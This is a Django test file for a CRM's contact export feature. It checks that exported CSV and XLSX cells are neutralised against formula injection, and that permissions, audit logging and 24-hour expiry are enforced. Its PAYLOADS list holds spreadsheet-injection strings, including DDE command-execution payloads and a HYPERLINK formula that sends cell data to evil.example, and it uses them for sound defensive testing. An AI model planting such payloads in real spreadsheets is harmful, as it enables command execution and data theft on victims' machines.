"""E1, E2: what leaves as a file is no formula, and is for whoever asked for it, for a day, on the record."""

from __future__ import annotations

import io
from datetime import timedelta

import openpyxl
from django.contrib.admin.models import LogEntry
from django.urls import reverse

from crm.kernel import clock
from crm.models import Contact, Export
from crm.sheets.exporting import files
from crm.ticking import run_tick
from tests import office
from tests.crm.sheets.leaving import asked, fetched, rows, taken

PAYLOADS = [
    "=1+1", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1",
    "\r=1+1", "\n=1+1", '=HYPERLINK("http://evil.example?x="&A1,"Click")', "=IMPORTXML(CONCAT(A1))",
    "\uff1d1+1", "\uff0bcmd", "\uff0dcmd", "\uff20cmd", "=cmd|'/C calc'!A0", "+A1", "-A1", "@A1", "=1\n=2",
    "=\u202e1", "-@=x",
]  # fmt: skip


def test_e1_no_cell_that_leaves_is_a_formula(ada, db):
    people = [office.person(f"p{number}@shop-customers.example", agreed=False) for number in range(20)]
    for person, said in zip(people, PAYLOADS, strict=True):
        Contact.objects.filter(pk=person.pk).update(
            first_name=said, last_name=said, source=said[:60], time_zone=said[:64], tags=[said]
        )
    columns = ["first_name", "last_name", "source", "time_zone"]
    told = rows(taken(ada, "crm.contact", columns=columns))
    assert len(told) == 20
    for row in told:
        assert all(cell.startswith("'") for cell in row.values()), row
    book = openpyxl.load_workbook(io.BytesIO(taken(ada, "crm.contact", columns=columns, format="xlsx")))
    cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row]
    assert len(cells) == 80
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.value.startswith("'") for cell in cells)


def test_e2_a_file_is_for_whoever_asked_for_a_day_and_on_the_record(world, ada, vera, sten):
    mia = office.logged_in(office.user("mia", "crm.export_contacts", "crm.view_contact"))
    eve = office.logged_in(office.user("eve", "crm.export_contacts", "crm.view_contact", "crm.view_export"))
    choose = reverse("admin:crm_export_of", args=["crm.contact"])
    # Whoever may look, only, takes nothing away, by no method.
    for client in (vera, sten):
        assert client.get(choose).status_code == client.post(choose, {"columns": "email"}).status_code == 403
    # Nor does whoever takes lists away get one they may not look at.
    assert mia.get(reverse("admin:crm_export_of", args=["crm.order"])).status_code == 403
    for closed in ("auth.user", "crm.serverkey", "crm.export", "crm.contactpoint", "crm.nothing", "x"):
        assert ada.get(reverse("admin:crm_export_of", args=[closed])).status_code == 403, closed

    export = asked(mia, "crm.contact", "q=ana")
    page, file = (reverse(f"admin:crm_export_{name}", args=[export.pk]) for name in ("change", "file"))
    run_tick("crm.exports", clock.now())
    assert rows(fetched(mia, export))[0]["E-mail"] == office.MAIL
    assert mia.get(file).status_code == 405
    assert eve.get(page).status_code == 200 and eve.post(file).status_code == 403
    assert vera.post(file).status_code == 403
    assert sten.get(page).status_code in (302, 403, 404) and sten.post(file).status_code in (302, 403, 404)
    anonymous = type(mia)()
    assert anonymous.post(file).status_code == 302 and "login" in anonymous.post(file)["Location"]

    # On the record: who, what, how many, by which filters, how often fetched.
    export.refresh_from_db()
    assert (export.made_by_name, export.told, export.rows, export.downloads) == ("mia", "“ana”", 1, 1)
    said = list(LogEntry.objects.order_by("pk").values_list("user__username", "change_message"))
    assert said == [("mia", "Asked for contacts, “ana”."), ("mia", "Fetched 1 rows of contacts, “ana”.")]

    # Whoever lost the permission gets no file any more; nor anybody after a day, and then it is deleted.
    export.made_by.user_permissions.clear()
    assert mia.post(file).status_code in (403, 404)
    assert export.expires_at == export.ended_at + timedelta(hours=24)
    run_tick("crm.tidy", export.expires_at - timedelta(seconds=1))
    assert files.path_of(export).exists()
    Export.objects.update(expires_at=clock.now())
    assert "24 hours are over" in ada.post(file, follow=True).content.decode()
    run_tick("crm.tidy", clock.now())
    assert not files.path_of(export).exists()
    assert Export.objects.get().status == Export.Status.EXPIRED


def test_e2_an_export_under_way_ends_when_its_owner_may_not_any_more(world):
    mia = office.logged_in(office.user("mia", "crm.export_contacts", "crm.view_contact"))
    export = asked(mia, "crm.contact")
    export.made_by.user_permissions.clear()
    run_tick("crm.exports", clock.now())
    export.refresh_from_db()
    assert export.status == Export.Status.FAILED and "may not" in export.problem
    assert not files.path_of(export, "rows").exists()
